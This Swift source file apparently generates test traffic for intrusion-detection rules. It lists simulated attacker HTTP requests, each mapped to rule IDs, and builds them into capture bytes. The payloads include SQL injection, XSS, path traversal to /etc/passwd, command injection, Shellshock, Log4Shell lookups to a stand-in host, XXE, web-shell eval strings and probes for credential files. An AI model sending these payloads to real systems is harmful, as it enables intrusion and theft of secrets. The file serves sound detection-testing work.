/// One request of an attacker to one of the city's sites, and how the site answered.
package struct WebAttack: Sendable {
  package var name: String
  /// Our rules that must fire on it.
  package var rules: [Int]
  /// Bytes by which the request is known in the capture.
  package var mark: String
  var method = "GET"
  var path: String
  var headers: [String] = []
  var agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
  var body = ""
  var status = 404
  var answer = ""

  private static func get(
    _ name: String, _ rules: [Int], _ path: String, status: Int = 404, answer: String = ""
  ) -> WebAttack {
    WebAttack(name: name, rules: rules, mark: path, path: path, status: status, answer: answer)
  }

  private static func post(_ name: String, _ rules: [Int], _ path: String, _ body: String, status: Int = 200)
    -> WebAttack
  {
    WebAttack(name: name, rules: rules, mark: body, method: "POST", path: path, body: body, status: status)
  }

  private static func header(_ name: String, _ rules: [Int], _ line: String, status: Int = 200) -> WebAttack {
    WebAttack(name: name, rules: rules, mark: line, path: "/", headers: [line], status: status)
  }

  private static func agent(_ name: String, _ rule: Int, _ agent: String) -> WebAttack {
    WebAttack(name: name, rules: [rule], mark: agent, path: "/", agent: agent, status: 200)
  }

  package static let all: [WebAttack] = injections + traversals + commands + lookups + shells + agents + probes + logins

  private static let injections = [
    get("SQL injection by UNION", [9_000_001], "/news?id=1%20UNION%20SELECT%20name,2%20FROM%20users", status: 200),
    post("SQL injection in a form", [9_000_002], "/search", "q=1+union+select+1%2C2"),
    get(
      "SQL injection by a tautology, with the database's error in the answer", [9_000_003, 9_000_054],
      "/item?id=1'%20or%201=1", status: 500, answer: "You have an error in your SQL syntax near ''1''"),
    get("SQL injection by time", [9_000_004], "/item?id=1;select%20sleep(5)", status: 500),
    get(
      "SQL injection that lists tables", [9_000_005],
      "/item?id=1%20and%20(select%20count(*)%20from%20information_schema.tables)"),
    get("SQL injection to a shell", [9_000_006], "/item?id=1;exec%20master..xp_cmdshell"),
    get("cross-site scripting", [9_000_010], "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", status: 200),
    get("cross-site scripting by an event", [9_000_011], "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", status: 200),
    get("cross-site scripting by a scheme", [9_000_012], "/go?to=javascript:alert(1)", status: 302),
  ]

  private static let traversals = [
    get(
      "path traversal that succeeds", [9_000_020, 9_000_021, 9_000_053], "/view?file=../../../../etc/passwd",
      status: 200, answer: "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"),
    get("encoded path traversal", [9_000_022], "/view?file=%2e%2e%2f%2e%2e%2fconfig"),
    get("path traversal on Windows", [9_000_023], "/view?file=..%5c..%5cwindows%5cwin.ini"),
    get("file inclusion by a wrapper", [9_000_024], "/index.php?page=php://filter/resource=index"),
    get("request for cloud metadata", [9_000_047], "/fetch?url=http://169.254.169.254/latest/meta-data/", status: 502),
  ]

  private static let commands = [
    get(
      "command injection that succeeds as root", [9_000_030, 9_000_052], "/ping?host=127.0.0.1;id", status: 200,
      answer: "uid=0(root) gid=0(root) groups=0(root)\n"),
    get("command injection by a shell", [9_000_031], "/cgi-bin/x?/bin/sh", status: 403),
    header("Shellshock", [9_000_032], "Referer: () { :;}; /usr/bin/touch /tmp/x"),
  ]

  private static let lookups = [
    get("Log4Shell in the address", [9_000_040], "/?x=${jndi:ldap://203.0.113.66/a}", status: 200),
    header("Log4Shell in a header", [9_000_041], "X-Api-Version: ${jndi:ldap://203.0.113.66/b}"),
    post("Log4Shell in a form", [9_000_042], "/login", "user=${jndi:ldap://203.0.113.66/c}"),
    header("Log4Shell that hides itself", [9_000_043], "X-Forwarded-Host: ${${lower:j}ndi:ldap://203.0.113.66/d}"),
    post(
      "Spring4Shell", [9_000_044], "/form", "class.module.classLoader.resources.context.parent.pipeline.first.x=1"),
    header("Struts expression", [9_000_045], "Content-Type: %{(#_='multipart/form-data')}", status: 500),
    post(
      "XML external entity", [9_000_046], "/api/import",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x/>"
    ),
  ]

  private static let shells = [
    get("web shell in an upload folder", [9_000_050], "/uploads/img/x.php?cmd=uname", status: 200, answer: "Linux\n"),
    post("web shell that evaluates", [9_000_051], "/static/.cache.php", "z=@eval(base64_decode($_POST[1]));"),
  ]

  private static let agents = [
    agent("sqlmap", 9_000_200, "sqlmap/1.8.4#stable (https://sqlmap.org)"),
    agent("Nikto", 9_000_201, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"),
    agent("Nmap", 9_000_202, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    agent("Nuclei", 9_000_203, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    agent("a folder guesser", 9_000_204, "gobuster/3.6"),
    agent("zgrab", 9_000_205, "Mozilla/5.0 zgrab/0.x"),
    agent("WPScan", 9_000_206, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
  ]

  private static let probes = [
    get("probe for a git folder", [9_000_220], "/.git/config", status: 200, answer: "[core]\n\tbare = false\n"),
    get("probe for an env file", [9_000_221], "/.env"), get("probe for an svn folder", [9_000_222], "/.svn/entries"),
    get("probe for cloud keys", [9_000_223], "/.aws/credentials"),
    get("probe for a WordPress copy", [9_000_224], "/wp-config.php.bak"),
    get("probe for a database dump", [9_000_225], "/backup.sql"),
    get("probe for a heap dump", [9_000_226], "/actuator/heapdump", status: 403),
    get("probe for phpMyAdmin", [9_000_227], "/phpmyadmin/index.php"),
  ]

  private static let logins = [
    header("a password by Basic authentication in clear", [9_000_240], "Authorization: Basic ZGVtbzpub3QtYS1zZWNyZXQ="),
    post("a password by a form in clear", [9_000_241], "/login", "user=demo&password=not-a-secret", status: 302),
  ]

  // MARK: bytes

  func request(to host: String) -> [UInt8] {
    var lines = ["\(method) \(path) HTTP/1.1", "Host: \(host)", "User-Agent: \(agent)", "Accept: */*"] + headers
    if !body.isEmpty {
      lines += ["Content-Type: application/x-www-form-urlencoded", "Content-Length: \(body.utf8.count)"]
    }
    return Array((lines + ["", body]).joined(separator: "\r\n").utf8)
  }

  var response: [UInt8] { WebText.response(status, answer.isEmpty ? "<p>\(status)</p>\n" : answer) }
}

enum WebText {
  private static let reasons = [
    200: "OK", 302: "Found", 401: "Unauthorized", 403: "Forbidden", 404: "Not Found", 500: "Internal Server Error",
    502: "Bad Gateway",
  ]

  static func response(_ status: Int, _ body: String) -> [UInt8] {
    let head = [
      "HTTP/1.1 \(status) \(reasons[status] ?? "Unknown")", "Server: web", "Content-Type: text/html; charset=utf-8",
      "Content-Length: \(body.utf8.count)", "", "",
    ]
    return Array((head.joined(separator: "\r\n") + body).utf8)
  }
}
